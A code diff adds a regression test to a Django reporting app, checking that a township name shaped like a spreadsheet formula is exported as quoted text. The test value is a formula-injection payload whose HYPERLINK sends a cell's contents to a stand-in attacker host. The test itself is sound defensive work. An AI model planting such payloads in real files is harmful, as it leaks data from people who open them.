@@ -159,3 +159,17 @@ def test_a_stored_remark_like_a_formula_stays_text_in_the_township_template(indi
     cells = _cells(data)
     assert not any(c.data_type == "f" for c in cells if c.value == "@SUM(1)")
     assert MonthlyValue.objects.get().remark == "@SUM(1)"
+
+
+def test_a_township_renamed_like_a_formula_stays_text_in_the_status_export(client, leader_user, orgs):
+    """Issue 23.2: the township's name was written with sheet.append, a live link in the leader's file."""
+    renamed = '=HYPERLINK("http://evil.example/?"&C6,"园林街道")'
+    orgs[TOWNSHIP_A].name = renamed
+    orgs[TOWNSHIP_A].save(update_fields=["name"])
+    client.force_login(leader_user)
+
+    response = client.get("/reporting/status/export.xlsx", {"year": 2024, "month": 11})
+
+    cells = _cells(response.content)
+    assert not any(c.data_type == "f" for c in cells)
+    assert any(c.value == renamed and c.data_type == "s" and c.quotePrefix for c in cells)
